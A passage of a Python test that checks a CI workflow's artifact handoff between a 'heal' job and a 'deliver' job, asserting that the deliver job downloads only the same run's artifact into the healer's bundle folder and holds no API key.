    [upload] = _steps(heal, "actions/upload-artifact")
    assert upload["with"]["name"] == BUNDLE_ARTIFACT
    # the deliver job: after the heal job, one download of this run's artifact by this run's name, no other
    # run's (no run-id, no token to reach one, no repository), into the folder it hands the healer
    assert deliver["needs"] == "heal"
    [download] = _steps(deliver, "actions/download-artifact")
    assert set(download["with"]) == {"name", "path"}, download["with"]
    assert download["with"]["name"] == BUNDLE_ARTIFACT == upload["with"]["name"]
    assert "github.run_id" in BUNDLE_ARTIFACT and "github.run_attempt" in BUNDLE_ARTIFACT
    step = _healer_step(deliver)
    # into the folder the deliver step reads: its `bundle-path`, or the default (under RUNNER_TEMP)
    where = step["with"].get("bundle-path", "${{ runner.temp }}/ci-healer-bundle")
    assert step["with"]["stage"] == "deliver" and where == download["with"]["path"]
    assert not _steps(deliver, "actions/upload-artifact")
    # and no model key in the deliver job: no agent runs there
    assert "API_KEY" not in yaml.safe_dump(deliver)
    assert not [
        name for name, job in jobs.items() if name != "heal" and _steps(job, "actions/upload-artifact")
    ]
